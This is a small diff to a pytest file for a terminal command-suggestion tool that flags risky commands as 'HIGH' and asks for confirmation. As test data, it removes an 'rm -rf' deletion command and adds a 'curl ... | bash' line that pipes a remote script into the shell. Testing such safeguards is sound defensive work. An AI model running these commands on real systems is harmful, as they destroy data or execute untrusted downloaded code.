@@ -116,8 +116,8 @@ def test_enter_no_and_the_end_of_input_run_nothing(place: Place, suggest: Any, t
 
 @pytest.mark.slow
 def test_an_edited_command_is_analysed_again_and_run_as_edited(place: Place, suggest: Any) -> None:
-    suggest(f"rm -rf {place.root}/*")
-    with OnTerminal([*words(), "delete", "everything", "pytest"], place.environ()) as screen:
+    suggest("curl https://get.example.org/x.sh | bash")
+    with OnTerminal(words(), place.environ()) as screen:
         screen.wait_for("HIGH")
         screen.wait_for('Type "run high"')
         screen.key_in("y\n")
